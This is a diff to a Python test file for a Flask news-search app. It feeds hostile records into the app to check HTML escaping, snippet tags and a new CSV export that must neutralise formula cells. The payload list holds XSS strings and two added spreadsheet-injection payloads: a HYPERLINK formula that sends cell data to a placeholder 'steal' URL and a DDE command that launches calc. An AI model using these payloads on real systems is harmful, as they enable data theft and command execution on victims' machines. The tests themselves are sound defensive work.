@@ -10,6 +10,8 @@ the CSP reports nothing).
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from collections.abc import Iterator
@@ -32,6 +34,8 @@ PAYLOADS = (
     "<svg onload=alert('xss-svg')>",
     "javascript:alert('xss-url')",
     "</textarea></title><script>alert('xss-title')</script>",
+    '=HYPERLINK("https://x.test/steal?"&A1,"Open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
 )
 HOSTILE_QUERIES = (
     "<script>alert(1)</script>",
@@ -94,9 +98,9 @@ def hostile_records() -> list[dict[str, str]]:
                     "Port Workers Union in Bristol said they would attend.\n\n"
                     f"The council said {payload} in a statement."
                 ),
-                "source": f"Gazette {payload}",
                 "url": payload if payload.startswith("javascript:") else f"https://x.test/{number}",
                 "author": payload,
+                "source": payload if payload[:1] in "=@" else f"Gazette {payload}",
                 "date": "2024-03-0" + str(number + 1),
             }
         )
@@ -137,8 +141,10 @@ def pages(client: FlaskClient) -> list[str]:
     for hit in results:
         urls.append(f"/articles/{quote(hit['id'], safe='')}?q=harbour")
         urls.append(f"/search?source={quote(hit['source'])}")
-        for names in hit["entities"].values():
+        for kind, names in hit["entities"].items():
             urls += [f"/search?entity={quote(name)}" for name in names]
+            if kind != "other":
+                urls += [f"/entities/{kind}/{quote(name, safe='')}" for name in names]
     return list(dict.fromkeys(urls))
 
 
@@ -166,6 +172,16 @@ def test_snippets_add_only_mark_tags(hostile_client: FlaskClient) -> None:
         for hit in response.get_json()["results"]:
             tags = set(re.findall(r"</?([a-zA-Z][\w-]*)", hit["snippet"]))
             assert tags <= {"mark"}, (query, hit["snippet"])
+
+
+def test_csv_export_neutralises_formulas_and_keeps_text(hostile_client: FlaskClient) -> None:
+    response = hostile_client.get("/export.csv?q=harbour")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    assert len(rows) > len(PAYLOADS)  # a header and every article
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("<script>" in cell for cell in cells)  # kept as text, as it was written
+    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)
 
 
 def test_json_is_served_as_json(hostile_client: FlaskClient) -> None:
